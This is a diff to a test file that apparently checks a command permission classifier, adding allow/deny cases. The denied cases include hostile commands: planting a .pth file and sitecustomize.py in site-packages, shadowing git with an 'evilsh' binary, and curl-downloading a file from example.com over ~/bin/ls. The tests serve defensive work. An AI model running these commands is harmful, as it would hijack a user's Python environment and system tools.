@@ -1190,6 +1190,9 @@ _LATER_CODE = [
     ("echo 'import os' > .venv/lib/python3.11/site-packages/evil.pth", "deny"),
     ("cp /tmp/in/evil.py .venv/lib/python3.11/site-packages/sitecustomize.py", "deny"),
     ("cat ~/.claude/commands/t.md", "allow"), ("ls .venv/lib/python3.11/site-packages", "allow"),
+    ("cp /tmp/in/evilsh ~/.local/bin/git && chmod +x ~/.local/bin/git", "deny"),
+    ("curl -so ~/bin/ls https://example.com/x", "deny"), ("ls -l ~/.local/bin", "allow"),
+    ("pip install --user black", "allow"),
 ]
 _MENTIONS_ALLOW = [
     'echo "rm -rf x"', "printf 'rm -rf %s' old", 'git commit -m "rm -rf old"', "grep -- -rf f",
